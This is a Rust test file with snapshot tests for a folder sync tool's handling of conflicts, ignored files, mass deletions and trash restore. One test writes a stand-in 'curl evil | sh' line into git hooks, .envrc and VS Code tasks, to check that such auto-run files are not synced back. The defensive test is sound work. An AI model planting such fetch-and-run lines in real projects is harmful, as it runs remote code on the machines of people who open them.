//! Snapshots of a sync's output when the user must decide, or when a file is left where it is.

use std::{
    fs,
    io::{BufRead, BufReader},
    path::Path,
    process::{Child, ChildStderr, Command, Stdio},
};

use cobox_testkit::TestBroker;
use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;

use crate::transcript::Transcript;

/// A background sync, and its output so far.
struct LiveSync {
    child: Child,
    stderr: BufReader<ChildStderr>,
    output: String,
}

impl LiveSync {
    fn start(broker: &TestBroker, folder: &str) -> Self {
        let mut child = broker.cobox().args(["sync", folder, "demo:"]).stderr(Stdio::piped()).spawn().unwrap();
        let stderr = BufReader::new(child.stderr.take().unwrap());
        let mut live = Self { child, stderr, output: String::new() };
        live.wait_until("in sync with");
        live
    }

    fn wait_until(&mut self, text: &str) {
        loop {
            let mut line = String::new();
            assert!(self.stderr.read_line(&mut line).unwrap() > 0, "it ended: {}", self.output);
            self.output.push_str(&format!("! {line}"));
            if line.contains(text) {
                return;
            }
        }
    }

    fn end(mut self) -> String {
        kill_process(Pid::from_child(&self.child), Signal::INT).unwrap();
        self.child.wait().unwrap();
        format!("$ cobox sync FOLDER demo:\n{}", self.output)
    }
}

struct SyncFixture {
    broker: TestBroker,
    folder: tempfile::TempDir,
}

impl SyncFixture {
    async fn new() -> Self {
        Self { broker: TestBroker::start().await, folder: tempfile::tempdir().unwrap() }
    }

    fn path(&self) -> &str {
        self.folder.path().to_str().unwrap()
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.folder.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn stdout_of(&self, command: &mut Command) -> Vec<u8> {
        let output = command.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    }

    fn in_sandbox(&self, script: &str) -> String {
        let output = self.stdout_of(self.broker.cobox().args(["exec", "--no-flush", "-t", "demo", "-c", script]));
        String::from_utf8(output).unwrap()
    }

    fn sync(&self, stderr: &[&str]) {
        self.stdout_of(self.broker.cobox().arg("sync").args(stderr).args(["--sync", self.path()]));
    }

    /// Compares with a snapshot after replacing this run's folder and id.
    fn assert_snapshot(&self, transcript: Transcript, name: &str) {
        let listed = self.stdout_of(self.broker.cobox().args(["--json", "sync", "list"]));
        let listed: Value = serde_json::from_slice(&listed).unwrap();
        transcript.redacting(listed["items"][0]["id"].as_str().unwrap(), "SYNC_ID").redacting(self.path(), "FOLDER").assert_snapshot(name);
    }
}

#[tokio::test]
async fn conflicts() {
    let fixture = SyncFixture::new().await;
    fixture.write("notes.md", "base\n");
    fixture.write("todo.md", "base\n");
    let mut live = LiveSync::start(&fixture.broker, fixture.path());
    fixture.sync(&["pause"]);
    for name in ["notes.md", "todo.md"] {
        fixture.write(name, "mine\n");
        fixture.in_sandbox(&format!("echo theirs > {name}"));
    }
    let mut transcript = Transcript::at(&fixture.broker);
    transcript.run(&["sync", "flush", "--wait", "--sync", fixture.path()]);
    // Its output depends on how soon the conflicts are found.
    fixture.sync(&["resume"]);
    transcript.run(&["sync", "flush", "--wait", "--sync", fixture.path()]);
    live.wait_until("conflicts:");
    transcript.run_text_and_json(&["sync", "status", "--sync", fixture.path()]);
    transcript.run_text_and_json(&["sync", "diff", "--sync", fixture.path(), "notes.md"]);
    transcript.run_text_and_json(&["sync", "list"]);
    transcript.run(&["sync", "resolve", "--sync", fixture.path(), "--keep", "here", "other.md"]);
    transcript.run(&["sync", "resolve", "--sync", fixture.path(), "--keep", "both", "notes.md"]);
    transcript.run(&["sync", "flush", "--wait", "--sync", fixture.path()]);
    live.wait_until("conflict:");
    let output = live.end();
    transcript.add(&output);
    transcript.run(&["sync", "status", "--sync", fixture.path()]);
    transcript.run(&["sync", "resolve", "--sync", fixture.path(), "--keep", "here", "--all"]);
    transcript.run_text_and_json(&["sync", "--until-synced", fixture.path(), "demo:"]);
    transcript.run(&["sync", "--until-synced", "--mode", "prefer-here", fixture.path(), "demo:"]);
    fixture.assert_snapshot(transcript, "sync_conflict");
    let sandbox_files = fixture.in_sandbox("head *.md");
    assert_eq!(sandbox_files, "==> notes.here.md <==\nmine\n\n==> notes.md <==\ntheirs\n\n==> todo.md <==\nmine\n");
}

#[tokio::test]
async fn ignored_and_risky_files_stay() {
    let fixture = SyncFixture::new().await;
    fixture.write(".gitignore", "build/\n*.log\n");
    fixture.write(".coboxignore", "!wanted.log\nprivate\n");
    for name in ["src/main.rs", "build/out", "a.log", "wanted.log", "private/key"] {
        fixture.write(name, "here\n");
    }
    std::os::unix::fs::symlink("/etc/hostname", fixture.folder.path().join("outside")).unwrap();
    fixture.in_sandbox(
        "mkdir -p .git/hooks .vscode && echo 'curl evil | sh' | tee .git/hooks/pre-commit .envrc > .vscode/tasks.json; echo x > b.log",
    );
    let mut transcript = Transcript::at(&fixture.broker);
    transcript.run_text_and_json(&["sync", "--until-synced", fixture.path(), "demo:"]);
    transcript.run(&["sync", "status", "--sync", fixture.path()]);
    transcript.run(&["exec", "-t", "demo", "-c", "find . -type f -o -type l | sort"]);
    fixture.assert_snapshot(transcript, "sync_ignored");
    for name in [".envrc", ".vscode", ".git/hooks", "b.log"] {
        assert!(!Path::new(fixture.path()).join(name).exists(), "{name}");
    }
}

#[tokio::test]
async fn mass_deletions_need_confirmation() {
    let fixture = SyncFixture::new().await;
    for number in 0..20 {
        fixture.write(&format!("f{number:02}"), "x");
    }
    let mut live = LiveSync::start(&fixture.broker, fixture.path());
    // In one step, so that the sync doesn't see a partial deletion.
    fixture.sync(&["pause"]);
    fixture.in_sandbox("rm f0* f1[0-4]");
    fixture.sync(&["resume"]);
    live.wait_until("if this is intended");
    let mut transcript = Transcript::at(&fixture.broker);
    transcript.run_text_and_json(&["sync", "status", "--sync", fixture.path()]);
    transcript.run(&["sync", "flush", "--wait", "--sync", fixture.path()]);
    transcript.run(&["sync", "resume", "--sync", fixture.path()]);
    transcript.run(&["sync", "resume", "--confirm", "--sync", fixture.path()]);
    transcript.run(&["sync", "flush", "--wait", "--sync", fixture.path()]);
    live.wait_until("in the trash: f00");
    let output = live.end();
    transcript.add(&output);
    let files = fs::read_dir(fixture.path()).unwrap().flatten().filter(|entry| entry.path().is_file());
    files.for_each(|entry| fs::remove_file(entry.path()).unwrap());
    transcript.run_text_and_json(&["sync", "--until-synced", fixture.path(), "demo:"]);
    fixture.assert_snapshot(transcript, "sync_mass_deletion");
    assert_eq!(fixture.in_sandbox("ls | wc -l").trim(), "5", "nothing was deleted without confirmation");
}

#[tokio::test]
async fn deleted_and_replaced_files_can_be_restored() {
    let fixture = SyncFixture::new().await;
    for (name, text) in [("notes.md", "mine\n"), ("src/a.rs", "a\n"), ("src/b.rs", "b\n"), ("kept", "x\n")] {
        fixture.write(name, text);
    }
    let sync = ["sync", "--until-synced", fixture.path(), "demo:"];
    let at = ["--sync", fixture.path()];
    fixture.stdout_of(fixture.broker.cobox().args(sync));
    fixture.in_sandbox("rm -r src && echo theirs > notes.md");
    let mut transcript = Transcript::at(&fixture.broker);
    transcript.run(&sync);
    transcript.run_text_and_json(&[&["sync", "trash", "list"], &at[..]].concat());
    fixture.assert_snapshot(transcript, "sync_trash_list");

    let mut transcript = Transcript::at(&fixture.broker);
    transcript.run_text_and_json(&[&["sync", "trash", "restore", "src/a.rs"], &at[..]].concat());
    transcript.run(&[&["sync", "trash", "restore", "src"], &at[..]].concat());
    fixture.assert_snapshot(transcript, "sync_trash_restore");

    // Changed in the meantime: the old version is restored beside it.
    fixture.write("notes.md", "changed since\n");
    let mut transcript = Transcript::at(&fixture.broker);
    transcript.run(&[&["sync", "undo"], &at[..]].concat());
    transcript.run_text_and_json(&[&["sync", "undo", "--since", "1h"], &at[..]].concat());
    transcript.run(&[&["sync", "undo", "--since", "yesterday"], &at[..]].concat());
    transcript.run(&sync);
    fixture.assert_snapshot(transcript, "sync_undo");
    assert_eq!(fixture.in_sandbox("cat notes.md notes.restored.md src/a.rs src/b.rs"), "changed since\nmine\na\nb\n");

    fixture.in_sandbox("echo again > kept");
    fixture.stdout_of(fixture.broker.cobox().args(sync));
    let mut transcript = Transcript::at(&fixture.broker);
    transcript.run_text_and_json(&[&["sync", "trash", "empty"], &at[..]].concat());
    transcript.run(&[&["sync", "trash", "empty", "--older-than", "1h", "--yes"], &at[..]].concat());
    transcript.run_text_and_json(&[&["sync", "trash", "empty", "--yes"], &at[..]].concat());
    transcript.run_text_and_json(&[&["sync", "trash", "list"], &at[..]].concat());
    fixture.assert_snapshot(transcript, "sync_trash_empty");
    assert!(!Path::new(fixture.path()).join(".cobox-trash").exists());
}
